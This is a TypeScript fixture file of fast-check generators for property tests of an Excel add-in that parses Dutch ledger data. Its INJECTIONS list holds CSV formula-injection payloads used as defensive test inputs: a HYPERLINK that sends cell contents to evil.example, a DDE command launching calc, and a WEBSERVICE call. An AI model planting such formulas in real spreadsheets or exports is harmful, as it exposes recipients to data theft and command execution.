/**
 * Hostile inputs for the reliability properties: what a controller's workbook, a finance system's export
 * or a careless formula can hand the add-in. Shared by the tests in this folder.
 */
import fc from "fast-check";

/** Runs per property: issue 7 asks for at least 10,000 generated inputs per target. */
export const RUNS = 10_000;

/** Text that Excel, CSV readers or a reader of the output would take as a formula (OWASP CSV injection). */
export const INJECTIONS = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")',
  "=1+1",
  "+31 20 123 4567",
  "+SUM(A1:A9)",
  "-2+3",
  "-5",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  '=cmd|" /C calc"!A0',
  '=WEBSERVICE("https://evil.example")',
];

export const EXCEL_ERROR_TEXTS = [
  "#N/A",
  "#NB",
  "#WAARDE!",
  "#VALUE!",
  "#DEEL/0!",
  "#DIV/0!",
  "#VERW!",
  "#REF!",
  "#NAAM?",
  "#GETAL!",
  "#LEEG!",
  "#OVERLOOP!",
  "#CALC!",
  "#BUSY!",
];

/** Header words the readers look for, so that generated grids often have a ledger or key figures in them. */
export const HEADER_WORDS = [
  "Omschrijving",
  "Bedrag",
  "Leverancier",
  "Grootboekrekening",
  "Jaar",
  "Boekjaar",
  "Kostenplaats",
  "Fte",
  "Categorie",
  "Description",
  "Amount",
  "verwacht_categorie",
  "Bedrag excl. btw",
  "Inwoners",
  "Gemeente",
  "Totale begroting",
  "ICT fte eigen",
  "Fte inhuur",
  "Gemeente: Utrecht",
  "Inwoners: 61.000",
];

const AMOUNT_TEXTS = [
  "1.234,56",
  "(1.234,56)",
  "1.234,56-",
  "€ 12,-",
  "€ -0,00",
  "-0",
  "1,234.56",
  "1e308",
  "1e309",
  "9".repeat(64),
  "9".repeat(65),
  "1.234.567,89",
  "1 234,5",
  "−45",
  "EUR 1.000",
  "12,3,4",
  "--5",
  "(-5)",
  ",5",
  ".",
  "",
  "   ",
  "\u00a0",
];

/** Strings of every kind: unicode, lone surrogates, control characters, right-to-left marks, long. */
export const anyText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 20 }) },
  { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 12 }) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 12 }) },
  {
    weight: 1,
    arbitrary: fc.string({
      unit: fc.constantFrom(
        "\u0000",
        "\u0007",
        "\t",
        "\r",
        "\n",
        "\u202e",
        "\u200b",
        "\ufeff",
        "\ud800",
        "\udfff",
      ),
      maxLength: 8,
    }),
  },
  { weight: 1, arbitrary: fc.constantFrom(...INJECTIONS, ...EXCEL_ERROR_TEXTS, ...AMOUNT_TEXTS) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(...HEADER_WORDS, "Totaal", "Subtotaal ICT", "Grand total", "TOTAAL:"),
  },
  { weight: 1, arbitrary: fc.integer({ min: 1, max: 60 }).map((n) => "Microsoft 365 licentie ".repeat(n)) },
);

/** Numbers as Range.values can (and cannot) hold them. */
export const anyNumber: fc.Arbitrary<number> = fc.oneof(
  fc.double(),
  fc.integer({ min: -1e15, max: 1e15 }),
  fc.constantFrom(
    0,
    -0,
    NaN,
    Infinity,
    -Infinity,
    Number.MAX_VALUE,
    -Number.MAX_VALUE,
    5e-324,
    44926,
    2022,
    1e20,
  ),
);

/** A cell as Office.js, a CSV file or ExcelJS could give it, plus things they should not (Date, NaN). */
export const anyCell: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: anyText },
  { weight: 3, arbitrary: anyNumber },
  { weight: 1, arbitrary: fc.constantFrom<unknown>("", null, undefined, true, false) },
  { weight: 1, arbitrary: fc.date({ noInvalidDate: false }) },
);

const row = fc.array(anyCell, { maxLength: 9 });

/** Small grids of every shape: empty, 1×1, ragged, header-only, with title rows, duplicated headers. */
export const anyGrid: fc.Arbitrary<unknown[][]> = fc.oneof(
  { weight: 3, arbitrary: fc.array(row, { maxLength: 25 }) },
  {
    weight: 4,
    arbitrary: fc
      .tuple(
        fc.array(row, { maxLength: 4 }),
        fc.shuffledSubarray(HEADER_WORDS.slice(0, 12), { minLength: 1 }),
        fc.boolean(),
        fc.boolean(),
        fc.array(row, { maxLength: 25 }),
      )
      .map(([above, words, complete, duplicate, below]) => {
        // Half of them certainly a ledger header (description and amount), the rest maybe.
        const header = complete ? ["Bedrag", ...words.filter((w) => w !== "Bedrag"), "Omschrijving"] : words;
        return [
          ...above,
          // A merged title row: text in column A, the rest of the merged area empty.
          ["ICT-kosten 2022", "", "", ""],
          duplicate ? [...header, ...header] : header,
          ...below,
        ];
      }),
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom<unknown[][]>(
      [],
      [[]],
      [[""]],
      [[null]],
      [["Omschrijving"]],
      [["Omschrijving", "Bedrag"]],
      [["Omschrijving", "Bedrag", "Omschrijving", "Bedrag"]],
      [["Omschrijving", "Bedrag"], [], [undefined as unknown as string]],
    ),
  },
);

/**
 * A cheap assertion for the hot loop of a property (expect() costs microseconds that 10,000 runs × many
 * checks turn into seconds); fast-check reports the failing input with the message.
 */
export function ok(condition: boolean, message: string | (() => string)): asserts condition {
  if (!condition) throw new Error(typeof message === "string" ? message : message());
}
